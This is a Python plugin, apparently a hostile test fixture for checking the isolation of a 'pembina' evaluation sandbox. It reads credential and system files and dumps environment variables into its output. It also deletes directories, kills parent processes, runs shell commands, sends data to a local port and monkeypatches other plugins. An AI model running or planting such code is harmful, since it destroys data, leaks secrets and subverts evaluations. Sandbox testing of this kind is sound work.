"""Tries at once what leaves its own process alive, and sends all that it learns into the result."""

import ctypes
import glob
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys

import narwhals.stable.v2 as nw

from pembina import Criterion, hookimpl


ATTEMPTS = ("read", "write", "delete", "fork", "shell", "network", "parent", "patch", "garbage")


def read(rules):
    said = ""
    for path in (rules["target"] + "/secret.txt", "/etc/passwd", f"/proc/{rules['pid']}/environ", *glob.glob(rules["target"] + "/../award/data/*")):
        try:
            said += pathlib.Path(path).read_bytes()[:2000].decode("utf-8", "replace").replace("\0", " ")
        except OSError:
            pass
    return said


def write(rules):
    for place in (rules["target"], rules["target"] + "/../award/data", os.path.expanduser("~"), "/tmp", os.path.dirname(__file__)):
        try:
            pathlib.Path(place, "hostile-was-here.txt").write_text("hostile")
        except OSError:
            pass


def delete(rules):
    for place in (rules["target"], rules["target"] + "/../award", os.path.dirname(__file__)):
        shutil.rmtree(place, ignore_errors=True)


def fork(rules):
    if os.fork() == 0:
        while True:
            signal.pause()


def shell(rules):
    subprocess.run(f"echo hostile > {rules['target']}/shell.txt", shell=True, check=False)


def network(rules):
    with socket.create_connection(("127.0.0.1", rules["port"]), timeout=1) as there:
        there.send(b"SECRET")


def parent(rules):
    for process in (rules["pid"], os.getppid()):
        ctypes.CDLL(None).tgkill(process, process, 9)
        os.kill(process, signal.SIGKILL) if process > 1 else None


def patch(rules):
    import pembina.evaluation.document
    import pembina_plugins.supervision_activity

    pembina.evaluation.document.plain = lambda value: value
    for kind in Criterion.__subclasses__():
        if kind is not Hostile:
            kind.measure = Hostile.measure


def garbage(rules):
    print("garbage")
    sys.__stdout__.write("garbage")
    sys.__stdout__.flush()
    for descriptor in range(3, 11):
        try:
            os.write(descriptor, b"garbage {]")
        except OSError:
            pass


class Hostile(Criterion):
    def records(self, tables, rules):
        return tables["visits"].filter(rules.in_period("date"))

    def measure(self, records, tables, rules):
        said = repr({key: text for key, text in os.environ.items() if key != "PYTHONHASHSEED"})
        for name in ATTEMPTS:
            try:
                said += str(globals()[name](rules) or "")
            except Exception as error:
                said += f" {name}: {type(error).__name__}"
        return records.group_by("region").agg(value=nw.len()).with_columns(source=nw.lit(said[:9000]))


@hookimpl
def pembina_criteria():
    return [Hostile]
